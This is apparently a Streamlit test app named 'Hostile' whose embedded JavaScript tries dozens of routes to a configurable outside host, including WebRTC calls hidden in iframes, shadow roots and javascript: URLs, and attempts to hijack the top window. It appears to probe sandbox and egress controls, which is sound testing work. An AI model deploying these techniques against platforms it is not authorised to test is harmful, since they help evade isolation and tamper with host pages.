"""An app whose HTML tries every way out of the page that shows it. `REACH` is where to."""

import os

import streamlit as st
import streamlit.components.v1 as components

HOST = os.environ["REACH"]  # host:port, of TCP and UDP
HERE = f"http://{HOST}"
# Each way has a name, so that one knows which worked. `at` is where it runs.
SCRIPT = """
const at = "AT";
const to = (way) => `HERE/${at}-${way}`;
const tried = [];
const add = (tag, more, parent = document.body) => parent.append(Object.assign(document.createElement(tag), more));
const frameOf = (html) => { const div = document.createElement("div"); div.innerHTML = html; document.body.append(div); };
const rtc = (Peer, way) => {
  const peer = new Peer({ iceServers: [
    { urls: "turn:HOST?transport=tcp", username: "a", credential: "b" }, { urls: "stun:HOST" },
  ] });
  peer.createDataChannel(way);
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
};
const RTC = `(${String(rtc)})`;
const ways = {
  fetch: () => fetch(to("fetch"), { mode: "no-cors" }),
  keepalive: () => fetch(to("keepalive"), { method: "POST", body: "x", keepalive: true, mode: "no-cors" }),
  xhr: () => { const x = new XMLHttpRequest(); x.open("GET", to("xhr")); x.send(); },
  beacon: () => navigator.sendBeacon(to("beacon"), "x"),
  image: () => { new Image().src = to("image"); },
  picture: () => frameOf(`<picture><source srcset="${to("picture")}"><img src="${to("picture-img")}"></picture>`),
  script: () => add("script", { src: to("script") }),
  module: () => add("script", { type: "module", textContent: `import "${to("module")}"` }),
  dynamic: () => import(to("dynamic")),
  style: () => add("link", { rel: "stylesheet", href: to("style") }),
  css: () => add("style", { textContent: `@import "${to("import")}"; body { background: url(${to("css")}) }
    @font-face { font-family: x; src: url(${to("font")}) } body { font-family: x }` }),
  fontface: () => new FontFace("y", `url(${to("fontface")})`).load(),
  prefetch: () => add("link", { rel: "prefetch", href: to("prefetch") }),
  preload: () => add("link", { rel: "preload", as: "image", href: to("preload") }),
  modulepreload: () => add("link", { rel: "modulepreload", href: to("modulepreload") }),
  preconnect: () => add("link", { rel: "preconnect", href: to("preconnect") }),
  preconnectHead: () => { document.head.innerHTML += `<link rel="preconnect" href="${to("preconnect2")}" crossorigin>`; },
  dns: () => add("link", { rel: "dns-prefetch", href: to("dns") }),
  prerender: () => add("link", { rel: "prerender", href: to("prerender") }),
  icon: () => add("link", { rel: "icon", href: to("icon") }),
  manifest: () => add("link", { rel: "manifest", href: to("manifest") }),
  speculation: () => add("script", { type: "speculationrules",
    textContent: JSON.stringify({ prefetch: [{ urls: [to("speculation")] }], prerender: [{ urls: [to("prerender2")] }] }) }),
  websocket: () => new WebSocket("ws://HOST/" + at),
  eventsource: () => new EventSource(to("eventsource")),
  transport: () => new WebTransport("https://HOST/"),
  form: () => { const form = document.createElement("form"); Object.assign(form, { action: to("form"), method: "post" });
    document.body.append(form); form.submit(); },
  formTop: () => { const form = document.createElement("form"); Object.assign(form, { action: to("form2"), target: "_top" });
    document.body.append(form); form.submit(); },
  refresh: () => add("meta", { httpEquiv: "refresh", content: `0; url=${to("refresh")}` }, document.head),
  open: () => window.open(to("open")),
  anchor: () => { const a = Object.assign(document.createElement("a"), { href: to("anchor"), target: "_blank", ping: to("ping") });
    document.body.append(a); a.click(); },
  anchorTop: () => { const a = Object.assign(document.createElement("a"), { href: to("anchor2"), target: "_top" });
    document.body.append(a); a.click(); },
  top: () => { window.top.location = to("top"); },
  parent: () => { window.parent.location.href = to("parent"); },
  title: () => { window.top.document.title = "owned"; },
  owned: () => { window.top.owned = true; },
  frame: () => add("iframe", { src: to("frame") }),
  frameBlob: () => add("iframe", { src: URL.createObjectURL(new Blob([`<img src="${to("blob")}">`], { type: "text/html" })) }),
  frameData: () => add("iframe", { src: `data:text/html,<img src="${to("data")}"><scr` + `ipt>fetch("${to("data2")}")</scr` + `ipt>` }),
  object: () => add("object", { data: to("object") }),
  embed: () => add("embed", { src: to("embed") }),
  media: () => { add("video", { src: to("video"), poster: to("poster") }); new Audio(to("audio")).play(); },
  track: () => frameOf(`<video><track default src="${to("track")}"></video>`),
  svg: () => frameOf(`<svg><image href="${to("svg")}"/><use href="${to("use")}#a"/></svg>`),
  worker: () => new Worker(URL.createObjectURL(new Blob([`importScripts("${to("worker")}"); fetch("${to("worker2")}")`]))),
  workerFetch: () => new Worker(URL.createObjectURL(new Blob([`fetch("${to("worker3")}"); new WebSocket("ws://HOST/w")`]))),
  workerFar: () => new Worker(to("worker4")),
  shared: () => new SharedWorker(to("shared")),
  service: () => navigator.serviceWorker.register(to("service")),
  rtc: () => rtc(RTCPeerConnection, "rtc"),
  rtcOld: () => rtc(webkitRTCPeerConnection, "rtc"),
  rtcDeleted: () => { delete window.RTCPeerConnection; rtc(window.RTCPeerConnection, "rtc"); },
  rtcFrame: () => { const frame = document.createElement("iframe"); document.body.append(frame); rtc(frame.contentWindow.RTCPeerConnection); },
  rtcFrames: () => { frameOf("<iframe></iframe>"); rtc(window[window.length - 1].RTCPeerConnection); },
  rtcSrcdoc: () => frameOf(`<iframe srcdoc='<scr` + `ipt>${RTC}(RTCPeerConnection, "srcdoc")</scr` + `ipt>'></iframe>`),
  rtcSrcdocAttribute: () => { const f = document.createElement("iframe"); f.setAttribute("srcdoc", `<scr` + `ipt>${RTC}(RTCPeerConnection, "srcdoc")</scr` + `ipt>`); document.body.append(f); },
  rtcShadow: () => { const host = document.createElement("div"); document.body.append(host);
    host.attachShadow({ mode: "closed" }).innerHTML = `<iframe srcdoc='<scr` + `ipt>${RTC}(RTCPeerConnection, "shadow")</scr` + `ipt>'></iframe>`; },
  rtcScript: () => { const f = document.createElement("iframe"); f.src = "javascript:" + RTC + "(RTCPeerConnection, 'js')"; document.body.append(f); },
  rtcScriptHtml: () => frameOf(`<iframe src="javascript:${RTC.replaceAll('"', "&quot;")}(RTCPeerConnection, 'html')"></iframe>`),
  rtcLocation: () => { const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.location = "javascript:" + RTC + "(RTCPeerConnection, 'l')"; },
  rtcTarget: () => { frameOf("<iframe name=inner></iframe>"); const a = Object.assign(document.createElement("a"), { target: "inner", href: "javascript:" + RTC + "(RTCPeerConnection, 'a')" });
    document.body.append(a); a.click(); },
  rtcDeclared: () => { const div = document.createElement("div"); document.body.append(div);
    div.setHTMLUnsafe(`<div><template shadowrootmode="closed"><iframe srcdoc='<scr` + `ipt>${RTC}(RTCPeerConnection, "declared")</scr` + `ipt>'></iframe></template></div>`); },
  rtcWrite: () => { if (document.readyState === "loading") document.write(`<link rel="preconnect" href="${to("written")}"><iframe srcdoc='<scr` + `ipt>${RTC}(RTCPeerConnection, "w")</scr` + `ipt>'></iframe>`); },
  rtcBlob: () => add("iframe", { src: URL.createObjectURL(new Blob([`<scr` + `ipt>${RTC}(RTCPeerConnection, "blob")</scr` + `ipt>`], { type: "text/html" })) }),
  rtcWorker: () => new Worker(URL.createObjectURL(new Blob([`${RTC}(RTCPeerConnection, "worker")`]))),
  self: () => { setTimeout(() => { location.href = to("self"); }, 1500); },
};
const leaving = ["form", "refresh", "self"]; // what would take the place of the page itself
for (const [way, go] of Object.entries(ways)) {
  if (ONLY !== (leaving.includes(way) ? "leaving" : "staying")) continue;
  try { Promise.resolve(go()).catch(() => {}); tried.push(way); } catch (error) { tried.push(`${way}: ${error.name}`); }
}
document.body.append(Object.assign(document.createElement("p"), { id: `tried-${at}`, textContent: `${at} tried ${tried.length} ways` }));
"""


only = "leaving" if st.button("Leave") else "staying"


def script(at: str) -> str:
    return (
        SCRIPT.replace("AT", at, 1)
        .replace("ONLY", repr(only))
        .replace("HERE", HERE)
        .replace("HOST", HOST)
    )


STATIC = f"""
<img src="{HERE}/html-image" srcset="{HERE}/html-srcset 2x"><div style="background: url({HERE}/html-css)">x</div>
<link rel="preconnect" href="{HERE}/html-preconnect"><link rel="stylesheet" href="{HERE}/html-style">
<style>@import "{HERE}/html-import"; .x {{ background: url({HERE}/html-css2) }}</style><div class="x">y</div>
<iframe src="{HERE}/html-frame"></iframe>
<video src="{HERE}/html-video" poster="{HERE}/html-poster" autoplay></video><base href="{HERE}/">
<object data="{HERE}/html-object"></object><embed src="{HERE}/html-embed"><img src=x onerror="fetch('{HERE}/html-onerror')">
<svg><image href="{HERE}/html-svg"/></svg><form action="{HERE}/html-form"><input name="a"></form>
<iframe srcdoc="<script>new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:{HOST}' }}] }}).createDataChannel('x')</script>"></iframe>
<iframe src="javascript:new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:{HOST}' }}] }}).createDataChannel('x')"></iframe>
"""

st.title("Hostile")
components.html(f"<body>{STATIC}<script>{script('component')}</script></body>", height=120)
components.html(
    f"<!doctype html><html><head><script>{script('head').replace('document.body', 'document.documentElement')}</script></head></html>"
)
components.iframe(f"{HERE}/iframe", height=40)
st.markdown(STATIC, unsafe_allow_html=True)
st.markdown(f"![x]({HERE}/markdown-image) <img src='{HERE}/markdown-html'>", unsafe_allow_html=True)
st.html(STATIC)
st.image(f"{HERE}/image.png")
st.video(f"{HERE}/video.mp4")
st.audio(f"{HERE}/audio.mp3")
st.logo(f"{HERE}/logo.png")
try:
    st.html(f"<div id='js'></div><script>{script('html')}</script>", unsafe_allow_javascript=True)
except TypeError:  # an older version
    pass
if hasattr(st.components, "v2"):
    component = st.components.v2.component(
        "hostile", html="<div id='b'></div>", js=f"export default () => {{ {script('v2')} }}"
    )
    component()
if only == "leaving":
    leave = f'<meta http-equiv="refresh" content="0; url={HERE}/html-refresh">'
    components.html(leave)
    st.markdown(leave, unsafe_allow_html=True)
    st.html(leave)
st.text("the end")
